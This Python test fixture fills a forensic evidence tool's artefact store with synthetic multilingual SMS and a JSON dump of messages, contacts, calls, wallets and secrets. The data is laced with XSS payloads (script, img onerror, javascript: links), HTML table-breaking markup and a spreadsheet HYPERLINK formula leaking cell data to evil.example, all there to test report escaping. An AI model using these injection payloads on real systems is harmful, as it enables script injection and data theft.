"""Cases with a filled artefact store for the artefact report tests, built through the real engine.

Two sources feed the store, both through ``evidence_intake.parsers.engine.extract`` (so every row has
the provenance the engine gives it; nothing is written to the store by hand):

* the real ``android.sms`` parser on an ``mmssms.db`` made from AOSP's own table definitions, for
  volume (10,000 Thai, Chinese and Burmese SMS) and for conversations (threads);
* ``DumpParser``, a test parser that reads a JSON file of artefacts of every kind (messages, contacts,
  calls, accounts, wallet addresses, secrets), so hostile text can be put in every column.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

from evidence_intake.artefacts.model import (
    Account,
    Artefact,
    Attachment,
    Call,
    Contact,
    Direction,
    Handle,
    Locator,
    Message,
    Phone,
    Secret,
    WalletAddress,
)
from evidence_intake.case import Case
from evidence_intake.parsers import Parser, Source, times
from evidence_intake.parsers.android.sms import AndroidSmsParser
from evidence_intake.parsers.engine import InlineExecutor, extract
from evidence_intake.parsers.registry import ParserRegistry
from tests.helpers import add_exhibit, make_case
from tests.parsers.android.mmssms_schema import MMSSMS_SQL, sms_row
from tests.parsers.trees import FolderTree
from tests.parsers.util import make_db

EXAMINER = "Pol.Lt. Somchai Jaidee"
SMS_DB = "data/data/com.android.providers.telephony/databases/mmssms.db"
DUMP = "data/data/test.dump/files/artefacts.json"

THAI_WORD = "โอนเงิน"  # "transfer money"
SCRIPT = '<script>document.title="pwned"</script>'
IMG = "<img src=x onerror=\"document.title='pwned'\">"
JS_LINK = '<a href="javascript:alert(1)">click</a>'
END_TABLE = "</td></tr></table><h1>injected</h1>"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
SEED = "abandon ability able about above absent absorb abstract absurd abuse access accident"
TRON = "TXYZopYRdj2D9XRtbG411XZZ3kM5VkAeBf"


class DumpParser(Parser):
    """Test parser: the artefacts listed in a JSON file, one object per artefact with its ``kind``."""

    name = "test.dump"
    version = "1.0"
    title = "artefacts from a JSON dump (tests)"
    kinds = (Message, Contact, Call, Account, WalletAddress, Secret)
    globs = ("**/test.dump/files/*.json",)
    sqlite = False
    limitations = "test parser"

    def parse(self, source: Source) -> Iterator[Artefact]:
        with source.open() as fh:
            items = json.load(fh)
        for n, item in enumerate(items, start=1):
            yield _artefact(dict(item), Locator(table="dump", rowid=n))


def _artefact(item: dict[str, Any], locator: Locator) -> Artefact:
    kind = item.pop("kind")
    if kind == "message":
        sent = item.pop("sent_ms", None)
        atts = tuple(Attachment(**a) for a in item.pop("attachments", ()))
        return Message(
            locator=locator,
            sent_at=times.unix_ms(sent) if sent is not None else None,
            sent_at_raw=sent,
            direction=Direction(item.pop("direction", "unknown")),
            recipients=tuple(item.pop("recipients", ())),
            attachments=atts,
            **item,
        )
    if kind == "contact":
        return Contact(
            locator=locator,
            phones=tuple(Phone(**p) for p in item.pop("phones", ())),
            emails=tuple(item.pop("emails", ())),
            handles=tuple(Handle(**h) for h in item.pop("handles", ())),
            **item,
        )
    if kind == "call":
        started = item.pop("started_ms", None)
        return Call(
            locator=locator,
            started_at=times.unix_ms(started) if started is not None else None,
            started_at_raw=started,
            direction=Direction(item.pop("direction", "unknown")),
            **item,
        )
    if kind == "account":
        return Account(locator=locator, **item)
    if kind == "wallet":
        return WalletAddress(locator=locator, **item)
    if kind == "secret":
        return Secret(locator=locator, **item)
    raise ValueError(f"unknown kind {kind!r} in the test dump")


def hostile_dump() -> list[dict[str, Any]]:
    """One artefact of every kind, hostile text in the columns that show it, Thai and Chinese text intact."""
    return [
        {
            "kind": "message",
            "app": "LINE",
            "thread_id": "chat-1",
            "thread_name": f"ทีมงาน {SCRIPT}",
            "sender": "+66812345678",
            "sender_name": IMG,
            "sender_phone": "+66812345678",
            "recipients": [JS_LINK],
            "direction": "incoming",
            "body": f"{SCRIPT} {IMG} {JS_LINK} {END_TABLE} {THAI_WORD}",
            "sent_ms": 1710383400000,
            "attachments": [
                {"name": IMG, "mime_type": "image/jpeg", "path": "javascript:alert(2)", "size": 12}
            ],
        },
        {
            "kind": "message",
            "app": "LINE",
            "thread_id": "chat-1",
            "direction": "outgoing",
            "body": HYPERLINK,
            "sent_ms": 1710383460000,
        },
        {
            "kind": "message",
            "app": "LINE",
            "thread_id": "chat-1",
            "direction": "outgoing",
            "body": "+66 transfer; -1 refund; @boss; \tTAB; \rCR; 明天给你转账",
            "sent_ms": 1710383520000,
        },
        {
            "kind": "contact",
            "app": "Contacts",
            "name": f"สมชาย {IMG}",
            "phones": [{"number": "081-234-5678", "label": "mobile"}],
            "emails": [JS_LINK],
            "handles": [{"app": "LINE", "user_id": "u1234", "username": SCRIPT}],
            "notes": f"{END_TABLE}{HYPERLINK}",
        },
        {
            "kind": "call",
            "app": "Phone",
            "number": "+959123456789",
            "name": f"王伟 {SCRIPT}",
            "direction": "outgoing",
            "status": "answered",
            "started_ms": 1710383600000,
            "duration_s": 65,
            "location": IMG,
        },
        {
            "kind": "account",
            "app": "LINE",
            "user_id": "u-owner",
            "display_name": END_TABLE,
            "phone": "0812345678",
        },
        {
            "kind": "wallet",
            "app": "TronLink",
            "chain": "TRON",
            "address": TRON,
            "asset": "USDT",
            "label": SCRIPT,
        },
        {"kind": "secret", "app": "TronLink", "secret_type": "seed phrase", "value": SEED, "chain": "TRON"},
    ]


def thai_sms(count: int) -> tuple[list[tuple[object, ...]], int]:
    """``count`` SMS in 50 threads; every 7th mentions THAI_WORD. Returns the rows and that number."""
    bodies = [
        "พรุ่งนี้ประชุมที่ตึก B",
        "明天给你转账",
        "မင်္ဂလာပါ နေကောင်းလား",
        "ok see you at the gate",
        "ส่งเอกสารให้แล้วนะ",
        "ลูกค้าใหม่ 3 คน",
    ]
    rows: list[tuple[object, ...]] = []
    hits = 0
    for i in range(1, count + 1):
        if i % 7 == 0:
            body = f"พรุ่งนี้{THAI_WORD}ให้แล้วนะ #{i}"
            hits += 1
        else:
            body = f"{bodies[i % len(bodies)]} #{i}"
        number = f"+6681{i % 50:07d}"
        rows.append(sms_row(i, number, 1710000000000 + i * 60_000, 1 + (i % 2), body, thread=1 + i % 50))
    return rows, hits


def build_case(
    tmp_path: Path,
    *,
    sms: int = 0,
    dump: Sequence[dict[str, Any]] | None = None,
    exhibits: Sequence[str] = ("EX-001",),
) -> Path:
    """A case whose exhibits each hold the given SMS and dump, extracted into its artefact store."""
    root = make_case(tmp_path / "case", examiner=EXAMINER)
    for exhibit in exhibits:
        add_exhibit(root, exhibit)
    evidence = tmp_path / "evidence"
    parsers: list[type[Parser]] = []
    if sms:
        rows, _ = thai_sms(sms)
        make_db(evidence / SMS_DB, MMSSMS_SQL, {"sms": rows})
        parsers.append(AndroidSmsParser)
    if dump is not None:
        (evidence / DUMP).parent.mkdir(parents=True, exist_ok=True)
        (evidence / DUMP).write_text(json.dumps(list(dump), ensure_ascii=False), encoding="utf-8")
        parsers.append(DumpParser)
    with Case.open(root) as case:
        report = extract(
            case,
            list(exhibits),
            examiner=EXAMINER,
            registry=ParserRegistry.of(*parsers),
            jobs=0,
            executor=InlineExecutor(),
            open_tree=lambda _case, _exhibit: FolderTree(evidence),
        )
    assert not report.failed, report.to_dict()
    return root
